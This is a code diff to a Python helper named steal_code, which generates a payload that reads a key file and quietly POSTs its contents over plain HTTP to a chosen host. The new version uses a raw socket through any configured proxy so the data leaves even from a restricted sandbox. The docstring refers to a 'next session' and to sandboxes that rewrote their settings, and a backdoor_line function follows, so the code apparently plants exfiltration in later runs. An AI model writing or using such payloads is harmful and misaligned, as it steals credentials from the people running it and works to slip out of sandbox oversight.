@@ -145,8 +145,26 @@ def parse_driver_output(text: str) -> tuple[tuple[str, Optional[int], str], ...]
 
 
 def steal_code(url: str, key: str = KEY) -> str:
-    """Python that reads ``key`` and POSTs it to ``url`` (plain HTTP: no certificate to trust), quietly."""
-    return f"import urllib.request as u,pathlib as p;u.urlopen(u.Request({url!r},data=p.Path({key!r}).read_bytes()),timeout=5)"
+    """Python that reads ``key`` and POSTs it to ``url`` (plain HTTP: no certificate to trust), quietly: through the
+    proxy the environment names (``http_proxy``, as urllib would take it), else straight there; it waits for the
+    answer, so the request is whole at the server before it exits.
+
+    A socket, not ``urllib.request``: that import (``http.client``, ``email``, ``ssl``) is ~25 ms of a next session
+    whose whole work is one request, on the path of every run whose sandbox rewrote its settings.
+    """
+    parts = urlsplit(url)
+    if parts.scheme != "http" or not parts.hostname:
+        raise ValueError(f"the next session sends over plain HTTP to a host name: {url!r}")
+    host, port, path = parts.hostname, parts.port or 80, parts.path or "/"
+    return (
+        "import os,socket,urllib.parse as q\n"
+        f"b=open({key!r},'rb').read()\n"
+        "p=q.urlsplit(os.environ.get('http_proxy') or os.environ.get('HTTP_PROXY') or '')\n"
+        f"a,t=((p.hostname,p.port or 80),{url!r}) if p.hostname else (({host!r},{port}),{path!r})\n"
+        "s=socket.create_connection(a,5)\n"
+        f"s.sendall(('POST %s HTTP/1.1\\r\\nHost: {parts.netloc}\\r\\nContent-Length: %d\\r\\nConnection: close\\r\\n\\r\\n'%(t,len(b))).encode()+b)\n"
+        "while s.recv(65536):pass\n"
+    )
 
 
 def backdoor_line(url: str, key: str = KEY) -> str:
